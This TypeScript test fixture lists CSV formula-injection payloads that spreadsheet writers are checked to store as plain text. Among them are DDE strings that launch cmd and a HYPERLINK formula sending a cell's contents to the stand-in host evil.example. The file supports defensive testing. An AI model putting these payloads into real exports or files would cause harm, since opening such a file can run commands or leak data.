// Formula-injection payloads (OWASP "CSV injection" list, with blank- and control-character-led variants)
// that every writer must store as text. Shared by the guard's tests and both adapters' tests.
export const INJECTION_CATALOGUE: string[] = [
  "=cmd|' /C calc'!A0",
  "+1",
  "-1+1",
  "@x",
  "=1+1",
  '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"!A0")A0',
  "\t=1",
  "\r=1",
  "\n=1",
  " =1",
  "\u00a0+1",
  "\uff1d1+1",
  "=" + "A".repeat(400),
];
